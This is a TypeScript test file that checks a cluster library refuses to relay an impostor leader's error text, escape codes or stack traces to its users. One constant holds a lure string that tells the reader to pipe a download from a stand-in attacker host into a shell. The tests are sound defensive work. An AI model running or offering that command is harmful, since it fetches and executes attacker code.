import { afterEach, describe, expect, it } from 'vitest';
import { AuthenticationError, ChannelNotFoundError, cluster, ProtocolError, type ClusterClient } from '../src/index.js';
import { encodeFrame } from '../src/protocol/frame.js';
import { fakeLeader } from './helpers/fake-leader.js';
import { registerConn } from './helpers/raw-peer.js';
import { clusterHarness } from './helpers/cluster-harness.js';
import { TestClient } from './helpers/test-client.js';
import { fetchStatus } from '../src/cli.js';
import { Credentials } from '../src/auth/credentials.js';

// Issue 15, part 3: what a process that has not proven it knows the secret can make us say or do.

const closers: Array<() => Promise<unknown>> = [];
const clients: ClusterClient[] = [];
afterEach(async () => {
  await Promise.all(clients.splice(0).map((c) => c.close()));
  await Promise.all(closers.splice(0).map((c) => c()));
});
const h = clusterHarness((options) => cluster(TestClient, options).create(), { name: 'Impostor' });

const SECRET = 's'.repeat(32);
const LURE = 'secret rotated: run curl http://evil.example/fix | sh';

async function followerOf(answer: Parameters<typeof fakeLeader>[0]): Promise<unknown> {
  const fake = await fakeLeader(answer);
  closers.push(fake.close);
  const client = cluster(TestClient, { port: fake.port, name: 'Impostor', isLeader: false, maxWaitTime: 3000, secret: SECRET }).create();
  client.on('error', () => undefined);
  clients.push(client);
  return client.ready().then(() => 'ready', (e: unknown) => e);
}

describe('a leader that has not proven itself', () => {
  it.each([
    ['64 non-ASCII characters', 'é'.repeat(64)],
    ['64 characters, not hex', 'z'.repeat(64)],
    ['a number', 12],
    ['too long', 'a'.repeat(65)],
  ])('a malformed leader proof (%s) fails with AuthenticationError, never RangeError', async (_what, leaderProof) => {
    const err = await followerOf(() => ({ type: 'register_channel_res', success: true, leaderPid: 1, leaderProof }));
    expect(err).toBeInstanceOf(AuthenticationError);
    expect((err as Error).message).toMatch(/could not prove it knows the secret/);
  });

  it('its refusal text is never shown as ours: our words, the right class, a short sanitized excerpt', async () => {
    const message = `${LURE}\u001b[2J\n${'x'.repeat(3000)}`; // under the 4 KiB cap on unauthenticated frames
    const err = await followerOf(() => ({ type: 'register_channel_res', success: false, error: { name: 'AuthenticationError', code: 'LEADERLINK_AUTH', message, stack: 'at /home/evil' } }));
    expect(err).toBeInstanceOf(AuthenticationError);
    const text = (err as Error).message;
    expect(text).toMatch(/^\[leaderlink:Impostor\] the process holding 127\.0\.0\.1:\d+ refused this process's proof/);
    expect(text).toMatch(/not verified: the port holder did not prove it knows the secret/);
    expect(text).not.toContain('\u001b');
    expect(text).not.toContain('x'.repeat(100));
    expect(text.length).toBeLessThan(500);
    expect((err as Error).stack).not.toContain('/home/evil');
  });

  it.each([
    ['any other code', { name: 'Error', message: LURE }, ProtocolError],
    ['no error at all', undefined, ProtocolError],
    ['a "channel not found"', { name: 'ChannelNotFoundError', code: 'LEADERLINK_NO_CHANNEL', message: LURE }, ChannelNotFoundError],
  ])('a refusal with %s becomes our own error', async (_what, error, cls) => {
    const err = await followerOf(() => ({ type: 'register_channel_res', success: false, error }));
    expect(err).toBeInstanceOf(cls);
    expect((err as Error).message).toMatch(/^\[leaderlink:Impostor\] the process holding/);
  });

  it('leaderlink status: the same rule', async () => {
    const fake = await fakeLeader(() => ({ type: 'status_res', success: false, error: { message: LURE } }));
    closers.push(fake.close);
    const err = await fetchStatus(fake.port, new Credentials(SECRET, undefined, {}), 3000).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(ProtocolError);
    expect((err as Error).message).toMatch(/^\[leaderlink status\] the process holding/);
  });
});

describe('what the leader tells a peer that has not proven itself', () => {
  it('a rejection carries a code and a short message only, no stack', async () => {
    const leader = h.make({ secret: SECRET });
    await leader.ready();
    const peer = await h.rawPeer();
    peer.send({ isResponse: false, id: 1, timeout: 5000, conn: registerConn(peer.nonce, 'Impostor', Buffer.from('w'.repeat(32))) });
    await peer.closed;
    const answer = peer.answer(1)!;
    expect(answer.conn).toMatchObject({ type: 'register_channel_res', success: false });
    expect(Object.keys(answer.conn.error as object).sort()).toStrictEqual(['code', 'message', 'name']);
    expect(answer.conn.error).toMatchObject({ code: 'LEADERLINK_AUTH', name: 'AuthenticationError' });
    expect(JSON.stringify(answer.conn)).not.toMatch(/\/work\/|node_modules|\.ts:|\.cjs:/);
  });

  it('a malformed follower proof (64 non-ASCII characters) is refused as a failed authentication, not a crash of the handler', async () => {
    const leader = h.make({ secret: SECRET });
    await leader.ready();
    const peer = await h.rawPeer();
    const conn = { ...registerConn(peer.nonce, 'Impostor', Buffer.from(SECRET)), proof: 'é'.repeat(64) };
    peer.write(encodeFrame({ isResponse: false, id: 1, timeout: 5000, conn }));
    await peer.closed;
    expect(peer.answer(1)?.conn).toMatchObject({ success: false, error: { code: 'LEADERLINK_AUTH' } });
  });
});
